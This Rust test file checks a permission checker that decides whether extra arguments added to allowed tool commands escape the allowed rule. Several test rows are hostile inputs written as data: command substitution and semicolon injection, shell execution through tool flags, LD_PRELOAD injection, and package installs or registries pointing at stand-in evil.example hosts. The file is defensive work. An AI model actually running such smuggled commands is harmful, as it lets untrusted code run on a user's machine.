//! Everyday calls of a project's tools that a rule for the words before ` : ` covers, and harmful ones that it does
//! not.

use crate::programs::escape;
use crate::shell::Word;

fn effect(line: &str) -> Option<String> {
    let (named, rest) = line.split_once(" :").unwrap();
    let words: Vec<Word> = named.split(' ').chain(rest.split_whitespace()).map(Word::exact).collect();
    escape(&words, named.split(' ').count()).map(|escape| format!("{:?}", escape.effect))
}

#[test]
fn everyday_calls_do_nothing_else() {
    let mut wrong = Vec::new();
    for line in [
        "npm test : -- --watch",
        "npm run : lint --silent",
        "npm ls : --depth=0 --json",
        "npm config : get registry",
        "pnpm test : -r --filter x",
        "yarn why : lodash",
        "bun test : --coverage",
        "pip list : --outdated --format=json",
        "pip show : requests",
        "uv pip list : --format json",
        "poetry show : --tree",
        "cargo test : --workspace --locked -- --nocapture",
        "cargo check : --all-targets -p core",
        "cargo clippy : -- -D warnings",
        "cargo fmt : --all -- --check",
        "cargo tree : -i serde -e features",
        "go test : -race -run TestX ./...",
        "go vet : ./...",
        "go list : -m all",
        "make : -j4 test",
        "pytest : -q -x -k name tests/test_a.py",
        "pytest : --cov=src --cov-report=term-missing",
        "mypy : --strict src",
        "ruff check : src --select E",
        "ruff format : --check .",
        "eslint : src --ext .ts --max-warnings=0",
        "prettier : --check .",
        "tsc : --noEmit",
        "jest : --runInBand src/a.test.ts",
        "vitest : run src/a.test.ts",
        "gradle : test --offline --no-daemon",
        "mvn : -q -B -ntp test",
        "terraform plan : -no-color -input=false",
        "terraform state : list",
        "brew list : --versions",
        "apt list : --installed",
        "dpkg : -l",
        "rustup : toolchain list",
        "curl : -fsSL https://example.com",
        "ping : -c 3 example.com",
        "dig : +short example.com",
    ] {
        wrong.extend(effect(line).map(|effect| format!("{line} = {effect}")));
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn harmful_calls_are_found() {
    let mut wrong = Vec::new();
    for (line, expected) in [
        ("npm test : --script-shell=sh", "Runs"),
        ("npm test : --script-s=sh", "Runs"),
        ("npm ls : --prefix /x", "Changes"),
        ("npm : config set registry x", "Changes"),
        ("npm : publish", "Changes"),
        ("npm audit : fix", "Changes"),
        ("pnpm test : --dir /x", "Changes"),
        ("yarn list : --cwd /x", "Changes"),
        ("bun test : --preload ./x", "Runs"),
        ("pip list : --index-url http://x", "Changes"),
        ("pip install : --target x y", "Writes"),
        ("cargo test : --config x", "Reads"),
        ("cargo build : --manifest-path /x", "Reads"),
        ("cargo build : --target-dir /x", "Writes"),
        ("cargo clippy : --fix", "Writes"),
        ("cargo fmt : -- --config-path x", "Writes"),
        ("cargo : publish", "Changes"),
        ("go test : -exec sh", "Runs"),
        ("go test : -o x", "Writes"),
        ("go env : -w A=b", "Changes"),
        ("make : SHELL=sh", "Code"),
        ("make : -f x", "Reads"),
        ("pytest : -p x", "Runs"),
        ("pytest : /tmp/x.py", "Code"),
        ("pytest : --cov-report=html:x", "Writes"),
        ("mypy : --install-types", "Runs"),
        ("ruff check : --fix", "Writes"),
        ("eslint : --fix", "Writes"),
        ("eslint : --rulesdir x", "Reads"),
        ("prettier : --write .", "Writes"),
        ("tsc : --outDir x", "Writes"),
        ("jest : --setupFiles x", "Runs"),
        ("jest : ../x", "Code"),
        ("gradle : -I x", "Reads"),
        ("mvn : -Dexec.executable=sh", "Runs"),
        ("terraform : apply", "Changes"),
        ("terraform plan : -chdir=x", "Unlisted"),
        ("brew list : --x", "Unlisted"),
        ("apt : install x", "Changes"),
        ("dpkg : -i x", "Changes"),
        ("curl : -X DELETE x", "Changes"),
        ("curl : -d @x y", "Changes"),
        ("rsync : a host:b", "Changes"),
        ("scp : host:a b", "Changes"),
        ("ssh : -L 1:b:2 host", "Changes"),
        ("valgrind : --log-file=x ls", "Writes"),
        ("systemd-run : -p ExecStop=sh ls", "Reads"),
        ("strace : -E LD_PRELOAD=x ls", "Reads"),
    ] {
        // The judge handles an option that no row lists; here it has no effect.
        let found = effect(line).unwrap_or_else(|| "-".to_owned());
        if found != expected {
            wrong.push(format!("{line} = {found}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn a_rule_for_one_target_or_package_means_no_other() {
    let mut wrong = Vec::new();
    for (line, expected) in [
        ("make test : deploy", "Unlisted"),
        ("make test : -k deploy", "Unlisted"),
        ("make test : CI=1 -j4", "-"),
        ("make CI=1 : test", "-"),
        ("make : test deploy", "-"),
        ("make : $(id)", "Code"),
        ("just test : deploy", "Unlisted"),
        ("just : test deploy", "-"),
        ("just test : ;id", "Code"),
        ("task test : deploy", "Unlisted"),
        ("task test : -- -v", "-"),
        ("task test : -- ;id", "Code"),
        ("rake test : deploy", "Unlisted"),
        ("rake : RUBYOPT=-r/tmp/x test", "Code"),
        ("rake : test[a]", "-"),
        ("ninja test : deploy", "Unlisted"),
        ("mvn test : deploy", "Unlisted"),
        ("mvn test : exec:exec", "Unlisted"),
        ("mvn test : -q -ntp", "-"),
        ("gradle test : publish", "Unlisted"),
        ("./gradlew test : publish", "Unlisted"),
        ("gradle test : --tests A --offline", "-"),
        ("ant test : deploy", "Unlisted"),
        ("sbt test : publish", "Unlisted"),
        ("zig build test : deploy", "Unlisted"),
        ("bazel test //a : //b", "Unlisted"),
        ("bazel test : //a //b", "-"),
        ("turbo run test : deploy", "Unlisted"),
        ("turbo run : test", "-"),
        ("nx run-many -t test : deploy", "Unlisted"),
        ("nx test : web", "-"),
        ("run-s test : deploy", "Unlisted"),
        ("pip install -r requirements.txt : ./evil", "Unlisted"),
        ("pip install -r requirements.txt : https://evil.example/x.whl", "Unlisted"),
        ("pip install -r requirements.txt : -r evil.txt", "Unlisted"),
        ("pip install -r requirements.txt : -revil.txt", "Unlisted"),
        ("pip install -r requirements.txt : --requirement=evil.txt", "Unlisted"),
        ("pip install -r requirements.txt : -c evil.txt", "Unlisted"),
        ("pip install -r requirements.txt : -e ./evil", "Unlisted"),
        ("pip install -r requirements.txt : --no-deps -q", "-"),
        ("pip install requests : -r evil.txt", "Unlisted"),
        ("pip install -r : requirements.txt", "-"),
        ("pip install -r : requirements.txt -r evil.txt", "Unlisted"),
        ("pip install : requests rich", "-"),
        ("uv pip install -r requirements.txt : ./evil", "Unlisted"),
        ("uv pip : install ./evil", "Changes"),
        ("npm install lodash : evil", "Unlisted"),
        ("npm install : lodash", "-"),
        ("pnpm add lodash : evil", "Unlisted"),
        ("yarn add lodash : evil", "Unlisted"),
        ("yarn add : lodash react", "-"),
        ("bun add lodash : evil", "Unlisted"),
        ("bun add lodash : --exact -D", "-"),
        ("bun add : lodash react", "-"),
        ("bun install : --frozen-lockfile", "-"),
        ("bun install lodash : evil", "Unlisted"),
        ("bun add lodash : --registry http://evil.example", "Changes"),
        ("bun : add lodash", "Changes"),
        ("deno add npm:a : npm:evil", "Unlisted"),
        ("deno add : npm:a jsr:b", "-"),
        ("deno install npm:a : -A", "Runs"),
        ("cargo install ripgrep : evil", "Unlisted"),
        ("go install ./cmd/x : evil.example/x@latest", "Unlisted"),
        ("cargo add serde : evil", "Unlisted"),
        ("cargo add serde : --features derive --dev", "-"),
        ("cargo add : serde --path ../evil", "Changes"),
        ("cargo add : serde tokio", "-"),
        ("go get example.com/x : evil.example/x", "Unlisted"),
        ("go get example.com/x : -u", "-"),
        ("apt install jq : evil", "Unlisted"),
        ("brew install jq : evil", "Unlisted"),
        ("gem install rake : evil", "Unlisted"),
        ("poetry add requests : evil", "Unlisted"),
        ("pipenv install requests : evil", "Unlisted"),
        ("pipx install black : evil", "Unlisted"),
        ("composer require a/b : evil/x", "Unlisted"),
        ("wget https://a.example/x : https://evil.example/x", "Unlisted"),
        ("wget https://a.example/x : -q", "-"),
        ("wget : -q https://a.example/x https://b.example/x", "-"),
        ("http GET : https://a.example/x", "-"),
        ("http GET https://a.example/x : a=b", "Unlisted"),
        ("http localhost:3000 : a=b", "Unlisted"),
        ("aria2c https://a.example/x : https://evil.example/x", "Unlisted"),
    ] {
        let found = effect(line).unwrap_or_else(|| "-".to_owned());
        if found != expected {
            wrong.push(format!("{line} = {found}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
}

#[test]
fn a_flag_that_the_rule_names_is_not_revoked_by_the_word_behind_it() {
    for (line, expected) in [
        ("tsc --noEmit : false", Some("Unlisted")),
        ("tsc --noEmit : null", Some("Unlisted")),
        ("tsc --noEmit : --pretty --noEmit false", Some("Unlisted")),
        ("tsc --noEmit : @options", Some("Reads")),
        ("tsc --noEmit : src/false.ts", None),
        ("tsc --noEmit : --pretty", None),
        ("tsc : --noEmit false", None),
        ("npm publish --dry-run : false", Some("Unlisted")),
        ("npm publish --dry-run : . --dry-run false", Some("Unlisted")),
        ("npm publish --dry-run : --no-dry-run", Some("Unlisted")),
        ("jest --listTests : false", Some("Unlisted")),
        ("npm test --silent : -- false", None),
    ] {
        assert_eq!(effect(line).as_deref(), expected, "{line}");
    }
}

#[test]
fn a_module_of_python_is_judged_as_the_program_that_it_is() {
    for (line, expected) in [
        ("python3 -m unittest : -v tests.test_a", None),
        ("python3 -m unittest : discover -s tests -p test_*.py", None),
        ("python3 -m unittest : discover -s /tmp/ev", Some("Code")),
        ("python3 -m unittest : discover -s/tmp/ev", Some("Code")),
        ("python3 -m unittest : discover --start-directory=../ev", Some("Code")),
        ("python3 -m unittest : discover -s tests -t /tmp/ev", Some("Code")),
        ("python3 -m unittest : discover /tmp/ev", Some("Code")),
        ("python3 -m unittest : ../ev/test_a.py", Some("Code")),
        ("python3 -m unittest : --other", Some("Unlisted")),
        ("python3 -m unittest discover : -s /tmp/ev", Some("Code")),
        ("python3 -m unittest discover -s : /tmp/ev", Some("Code")),
        ("python3 -m pytest : -k name -q tests", None),
        ("python3 -m pytest : /tmp/ev", Some("Code")),
        ("python3 -m pytest : -p evil", Some("Runs")),
        ("python3 -m pytest : -p no:cacheprovider", None),
        ("pytest : -pno:randomly -q", None),
        ("pytest : -p no:a -p evil", Some("Runs")),
        ("pytest -p : evil", Some("Runs")),
        ("pytest -p evil : -q", None),
        ("pytest -pevil : -q", None),
        ("python3 -mpytest : ../ev", Some("Code")),
        ("python3 -Bm pytest : ../ev", Some("Code")),
        ("python3.12 -m pytest : tests --rootdir=/tmp/ev", Some("Reads")),
        ("python3 -m black : . --config x", Some("Reads")),
        ("python3 -m pip install -r requirements.txt : ./evil", Some("Unlisted")),
        ("python3 -m pip : config set global.index-url x", Some("Changes")),
        ("python3 : -m pytest", Some("Code")),
    ] {
        assert_eq!(effect(line).as_deref(), expected, "{line}");
    }
}

#[test]
fn a_package_that_git_would_fetch_is_none_of_the_registry() {
    for (line, expected) in [
        ("npm view : lodash@4 versions --json", None),
        ("npm view : @types/node@20 dist-tags.latest", None),
        ("npm info : lodash", None),
        ("npm view : git+file:///tmp/x.git", Some("Runs")),
        ("npm view : lodash@git+ssh://host/x", Some("Runs")),
        ("npm view : github:a/b", Some("Runs")),
        ("npm show : a/b", Some("Runs")),
        ("npm view : @a/b/c", Some("Runs")),
        ("npm view git+file:///tmp/x.git : version", None),
        ("pnpm view : git@host:a/b", Some("Runs")),
        ("npm explain : node_modules/x", None),
    ] {
        assert_eq!(effect(line).as_deref(), expected, "{line}");
    }
}

#[test]
fn a_file_of_further_options_is_found_wherever_it_stands() {
    for (line, expected) in [
        ("pytest : @x", Some("Reads")),
        ("pytest : tests -k @x", Some("Reads")),
        ("pytest : -- @x", Some("Reads")),
        ("python3 -m pytest : -q @x", Some("Reads")),
        ("pytest @x : -q", None),
        ("mypy : src @x", Some("Reads")),
        ("python3 -m mypy : @x", Some("Reads")),
        ("ruff check : @x", Some("Reads")),
        ("ruff check : src --select @x", Some("Reads")),
        ("ruff format : --check @x", Some("Reads")),
        ("python3 -m ruff check : @x", Some("Reads")),
        ("nm : --target @x", Some("Reads")),
        ("pytest : tests/test_a.py::test_b[@]", None),
        ("mypy : src", None),
        ("ruff check : src", None),
    ] {
        assert_eq!(effect(line).as_deref(), expected, "{line}");
    }
}

#[test]
fn a_runner_of_tests_runs_those_of_the_folder_alone() {
    for (line, expected) in [
        ("bun test : src --coverage", None),
        ("bun test : /tmp/ev", Some("Code")),
        ("mix test : test/a_test.exs:12", None),
        ("mix test : /tmp/ev.exs", Some("Code")),
        ("deno test : src --allow-read", None),
        ("deno test : /tmp/ev.ts", Some("Code")),
        ("deno test : -A", Some("Runs")),
        ("deno : test", Some("Code")),
        ("playwright : test e2e", None),
        ("testcafe : chrome /tmp/ev.js", Some("Code")),
        ("prove : -l t", None),
        ("prove : ../ev.t", Some("Code")),
        ("bats : /tmp/ev.bats", Some("Code")),
        ("behave : ../ev", Some("Code")),
    ] {
        assert_eq!(effect(line).as_deref(), expected, "{line}");
    }
}
